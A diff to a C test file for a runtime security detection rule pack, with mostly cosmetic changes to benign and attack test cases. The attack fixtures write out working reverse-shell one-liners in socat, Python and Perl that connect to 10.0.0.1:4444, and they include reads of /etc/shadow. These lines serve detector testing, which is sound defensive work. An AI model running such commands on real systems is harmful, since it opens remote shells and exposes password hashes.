@@ -35,7 +35,7 @@ struct ev {
 	bool c;
 	bool sock;                    /* stdin and stdout a TCP connection */
 	bool drift;
-	const char *in;               /* proc.stdin_type/stdout_type; default pipe (or tcp if sock) */
+	const char *in;               /* proc.stdin_type and stdout_type; default pipe (tcp if sock) */
 	const char *parent;           /* parent.name */
 	const char *anc;              /* proc.ancestors */
 };
@@ -315,7 +315,7 @@ static void test_pack__benign(void)
 		{ "open", "perl", .fd = "/etc/shadow",
 		  .anc = "/usr/bin/dash /usr/bin/dpkg /usr/bin/apt-get /usr/bin/bash" },
 		{ "open", "frontend", .exe = "/usr/bin/perl", .fd = "/etc/shadow",
-		  .cmd = "/usr/bin/perl -w /usr/share/debconf/frontend /var/lib/dpkg/info/x.postinst" },
+		  .cmd = "/usr/bin/perl -w /usr/share/debconf/frontend /var/lib/dpkg/info/x.config" },
 		{ "open", "cp", .fd = "/etc/shadow",
 		  .anc = "/usr/bin/dash /usr/bin/run-parts /usr/sbin/cron" },
 		{ "open", "useradd", .exe = "/usr/sbin/useradd", .fd = "/etc/passwd", W,
@@ -353,12 +353,15 @@ static void test_pack__attacks(void)
 		{ "reverse-shell", { "exec", "bash", .in = "unix", .parent = "socat" } },
 		{ "reverse-shell", { "exec", "sh", .in = "pipe", .parent = "ncat", C } },
 		{ "reverse-shell", { "exec", "sh", .in = "udp" } },
-		{ "reverse-shell-cmdline", { "exec", "socat", .cmd = "socat TCP:10.0.0.1:4444 EXEC:bash" } },
-		{ "reverse-shell-cmdline", { "exec", "python3", .cmd = "python3 -c import socket,os,pty;"
-		  "s=socket.socket();s.connect((\"10.0.0.1\",4444));os.dup2(s.fileno(),0);"
+		{ "reverse-shell-cmdline",
+		  { "exec", "socat", .cmd = "socat TCP:10.0.0.1:4444 EXEC:bash" } },
+		{ "reverse-shell-cmdline", { "exec", "python3",
+		  .cmd = "python3 -c import socket,os,pty;s=socket.socket();"
+		  "s.connect((\"10.0.0.1\",4444));os.dup2(s.fileno(),0);"
 		  "pty.spawn(\"/bin/sh\")" } },
 		{ "reverse-shell-cmdline", { "exec", "perl", .cmd = "perl -e use Socket;"
-		  "socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4444,inet_aton(\"10.0.0.1\")));"
+		  "socket(S,PF_INET,SOCK_STREAM,6);"
+		  "connect(S,sockaddr_in(4444,inet_aton(\"10.0.0.1\")));"
 		  "open(STDIN,\">&S\");exec(\"/bin/sh -i\");" } },
 		/* in a container a package manager's child reading shadow still counts */
 		{ "read-shadow", { "open", "perl", .fd = "/etc/shadow", C,
